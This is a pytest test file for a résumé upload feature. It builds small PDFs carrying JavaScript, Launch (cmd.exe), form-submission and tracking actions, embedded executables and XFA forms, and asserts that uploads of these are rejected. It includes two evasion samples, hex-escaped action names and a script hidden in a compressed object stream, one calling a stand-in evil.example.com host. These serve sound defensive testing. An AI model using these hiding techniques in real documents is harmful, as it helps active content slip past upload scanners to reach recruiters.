"""Résumé PDFs that would run something when a recruiter opens them are refused at upload (issue 15, item 9)."""

import zlib
from io import BytesIO

import pytest
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from accounts.models import GraduateProfile
from tests.accounts.helpers import pdf_upload
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def _write(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _page_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _link(writer: PdfWriter, action: DictionaryObject, subtype: str = "/Link") -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
            NameObject("/A"): writer._add_object(action),
        }
    )
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def document_javascript() -> bytes:
    writer = _page_writer()
    script = writer._add_object(_action("/JavaScript", JS="app.alert('hi')"))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return _write(writer)


def open_action_javascript() -> bytes:
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_action("/JavaScript", JS="this.print()"))
    return _write(writer)


def open_action_print() -> bytes:
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = _action("/Named", N="Print")
    return _write(writer)


def page_additional_actions() -> bytes:
    writer = _page_writer()
    actions = DictionaryObject({NameObject("/O"): _action("/URI", URI="https://tracker.example.com/opened")})
    writer.pages[0][NameObject("/AA")] = actions
    return _write(writer)


def launch_link() -> bytes:
    writer = _page_writer()
    _link(writer, _action("/Launch", F="cmd.exe"))
    return _write(writer)


def submit_form_link() -> bytes:
    writer = _page_writer()
    _link(writer, _action("/SubmitForm", F="https://collector.example.com/"))
    return _write(writer)


def embedded_file() -> bytes:
    writer = _page_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _write(writer)


def file_attachment_annotation() -> bytes:
    writer = _page_writer()
    _link(writer, _action("/GoTo"), subtype="/FileAttachment")
    return _write(writer)


def xfa_form() -> bytes:
    writer = _page_writer()
    form = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp></xdp:xdp>")}
    )
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _write(writer)


def hand_written(objects: list[bytes], *, object_stream: list[bytes] | None = None) -> bytes:
    """A PDF written byte by byte: classic xref for ``objects`` (numbered from 1), or, with ``object_stream``, those
    objects compressed into one object stream listed by a cross-reference stream (PDF 1.5), as modern exporters do."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if object_stream is None:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
        return bytes(out)
    first = len(objects) + 1  # numbers of the compressed objects
    header, data = [], bytearray()
    for index, body in enumerate(object_stream):
        header.append(b"%d %d" % (first + index, len(data)))
        data += body + b"\n"
    header_bytes = b" ".join(header) + b"\n"
    packed = zlib.compress(header_bytes + bytes(data))
    stream_number = first + len(object_stream)
    offsets.append(len(out))
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number,
        len(object_stream),
        len(header_bytes),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    xref_offset = len(out)

    def row(kind: int, field: int, index: int = 0) -> bytes:  # W [1 4 2]
        return bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big")

    rows = [row(0, 0, 65535)]  # object 0: free
    rows += [row(1, offset) for offset in offsets[:-1]]  # plain objects, by offset
    rows += [row(2, stream_number, index) for index in range(len(object_stream))]  # compressed: stream, index
    rows += [row(1, offsets[-1]), row(1, xref_offset)]  # the object stream and this xref stream
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        first,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def escaped_names() -> bytes:
    """``/J#61vaScript`` and ``/J#53`` are /JavaScript and /JS to a viewer; a byte search misses them."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    action = b"<< /S /J#61vaScript /J#53 (app.launchURL('https://evil.example.com')) >>"
    return hand_written([catalog, PAGES, PAGE, action])


def inside_object_stream() -> bytes:
    """The catalogue and its script compressed into an object stream: no "/JavaScript" in the file's bytes."""
    plain = [
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 1 0 R /MediaBox [0 0 595 842] >>",
    ]
    compressed = [
        b"<< /Type /Catalog /Pages 1 0 R /OpenAction 4 0 R >>",
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
    ]
    return hand_written(plain, object_stream=compressed)


ACTIVE = {
    "document JavaScript": (document_javascript, "JavaScript"),
    "OpenAction JavaScript": (open_action_javascript, "JavaScript"),
    "OpenAction print": (open_action_print, "OpenAction"),
    "page additional actions": (page_additional_actions, "AA"),
    "Launch link": (launch_link, "Launch"),
    "SubmitForm link": (submit_form_link, "SubmitForm"),
    "embedded file": (embedded_file, "EmbeddedFiles"),
    "file attachment annotation": (file_attachment_annotation, "EmbeddedFiles"),
    "XFA form": (xfa_form, "XFA"),
    "escaped names": (escaped_names, "JavaScript"),
    "object stream": (inside_object_stream, "JavaScript"),
}


@pytest.mark.parametrize("build", ACTIVE.values(), ids=ACTIVE.keys())
def test_active_pdf_is_refused_with_what_it_carries_and_nothing_is_stored(client, build):
    make, kind = build
    content = make()
    user = UserFactory()
    client.force_login(user)

    response = client.post(reverse("accounts:resume_upload"), {"resume": pdf_upload("cv.pdf", content)})

    assert response.status_code == 400
    page = response.content.decode()
    assert "自动运行" in page and kind in page
    assert not GraduateProfile.objects.filter(user=user).exclude(resume="").exists()


def test_the_hidden_script_really_is_hidden_from_a_byte_search():
    """The two hand-written files test the parser-level walk, not a grep: their bytes never spell the names."""
    assert b"/JavaScript" not in escaped_names() and b"/JS " not in escaped_names()
    assert b"JavaScript" not in inside_object_stream()


def links_and_destinations() -> bytes:
    """What CV exporters write: a link to the graduate's GitHub, an outline, "open at page 1, fit width"."""
    writer = _page_writer()
    _link(writer, _action("/URI", URI="https://github.com/example"))
    writer.add_outline_item(title="教育经历", page_number=0)
    destination = ArrayObject([writer.pages[0].indirect_reference, NameObject("/FitH"), NumberObject(842)])
    writer._root_object[NameObject("/OpenAction")] = destination
    return _write(writer)


def goto_open_action() -> bytes:
    writer = _page_writer()
    action = _action("/GoTo")
    action[NameObject("/D")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer._root_object[NameObject("/OpenAction")] = action
    return _write(writer)


@pytest.mark.parametrize("make", [links_and_destinations, goto_open_action])
def test_links_outlines_and_opening_destinations_are_accepted(client, make):
    user = UserFactory()
    client.force_login(user)

    response = client.post(reverse("accounts:resume_upload"), {"resume": pdf_upload("cv.pdf", make())})

    assert response.status_code == 302
    assert GraduateProfile.objects.get(user=user).resume_size == len(make())
